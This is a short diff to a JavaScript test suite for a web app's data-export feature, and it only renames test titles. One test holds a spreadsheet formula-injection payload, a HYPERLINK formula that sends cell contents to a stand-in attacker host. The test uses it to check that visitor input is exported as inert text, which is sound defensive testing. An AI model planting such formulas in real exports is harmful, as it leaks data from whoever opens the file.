@@ -102,7 +102,7 @@ test('a search that comes in a body is exported and stands in no log line', asyn
   expect((await admin.put(path, {})).headers.get('allow')).toBe('GET, HEAD, POST, OPTIONS');
 });
 
-test('a formula that somebody sent is text in the file', async () => {
+test('a formula from a visitor is text in the file', async () => {
   await using app = await startApp();
   const evil = '=HYPERLINK("https://evil.example?"&A1,"x")';
   await app.anyone.post(
@@ -151,7 +151,7 @@ test('many leads come in pieces, and all of them come', async () => {
   expect(pieces).toBeGreaterThan(3);
 });
 
-test('somebody who leaves in the middle of an export does not disturb the others', async () => {
+test('a person who leaves in the middle of an export does not disturb the others', async () => {
   await using app = await startApp();
   const { body } = await app.anyone.post('/api/clients', make.client());
   const first = await app.models.clients.findById(body.id).lean();
